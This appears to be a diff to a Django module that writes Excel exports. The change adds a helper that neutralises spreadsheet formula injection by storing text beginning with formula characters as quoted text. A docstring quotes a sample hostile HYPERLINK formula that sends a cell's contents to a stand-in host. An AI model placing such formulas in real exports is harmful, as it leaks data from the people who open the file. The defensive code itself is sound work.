@@ -1,10 +1,13 @@
 """Excel workbooks the portal hands out: one look for every ledger and table download."""
 
+import datetime
+from decimal import Decimal
 from io import BytesIO
 
 from django.http import HttpResponse
 from django.utils.http import content_disposition_header
 from openpyxl import Workbook
+from openpyxl.comments import Comment
 from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
 from openpyxl.utils import get_column_letter
 
@@ -14,6 +17,40 @@ _THIN = Side(style="thin", color="BBBBBB")
 _BORDER = Border(left=_THIN, right=_THIN, top=_THIN, bottom=_THIN)
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# What a spreadsheet reads as the start of a formula (or of a DDE call) when it is typed in,
+# pasted or re-entered: text starting so is written as text, never as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def put(cell, value):
+    """Write `value` into `cell`: the one way every export fills a cell.
+
+    Numbers, dates and booleans stay what they are; text is always stored as text. openpyxl
+    would store text starting with `=` as a live formula (`=HYPERLINK("http://x"&A1,"点击")`
+    in an activity topic runs on opening), and Excel re-reads `+`, `-`, `@`, tab and CR as a
+    formula once the cell is edited; those cells are typed as text and carry the quote
+    prefix (Excel's leading apostrophe) so the reader sees the text exactly as it was entered.
+    """
+    if value is None or isinstance(value, bool | int | float | Decimal | datetime.date):
+        cell.value = value
+        return cell
+    text = str(value)
+    cell.value = text
+    if text.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
+class Noted:
+    """A cell value with a comment on the cell (a dues amount and who paid it as proxy)."""
+
+    def __init__(self, value, note):
+        self.value, self.note = value, note
+
+    def __str__(self):
+        return str(self.value)
 
 
 def new_workbook():
@@ -26,21 +63,28 @@ def new_workbook():
 def add_sheet(workbook, title, headers, rows, caption=None):
     """A sheet with an optional caption line, a styled header row and the rows, sized to fit."""
     sheet = workbook.create_sheet(title=title[:31])
+    line = 0
     if caption:
-        sheet.append([caption])
-        sheet.cell(row=1, column=1).font = Font(bold=True, size=13)
+        line += 1
+        put(sheet.cell(row=line, column=1), caption).font = Font(bold=True, size=13)
         sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=max(len(headers), 1))
-    sheet.append(list(headers))
-    header_row = sheet.max_row
-    for cell in sheet[header_row]:
+    line += 1
+    header_row = line
+    for i, header in enumerate(headers, start=1):
+        cell = put(sheet.cell(row=line, column=i), header)
         cell.fill, cell.font, cell.border = _HEADER_FILL, _HEADER_FONT, _BORDER
         cell.alignment = Alignment(horizontal="center", vertical="center")
     widths = [_width(h) for h in headers]
     for row in rows:
-        sheet.append(list(row))
+        line += 1
         for i, value in enumerate(row):
             widths[i] = max(widths[i], _width(value))
-            cell = sheet.cell(row=sheet.max_row, column=i + 1)
+            cell = sheet.cell(row=line, column=i + 1)
+            if isinstance(value, Noted):
+                put(cell, value.value)
+                cell.comment = Comment(str(value.note), "")
+            else:
+                put(cell, value)
             cell.border = _BORDER
             cell.alignment = Alignment(vertical="top", wrap_text=True)
     for i, width in enumerate(widths, start=1):
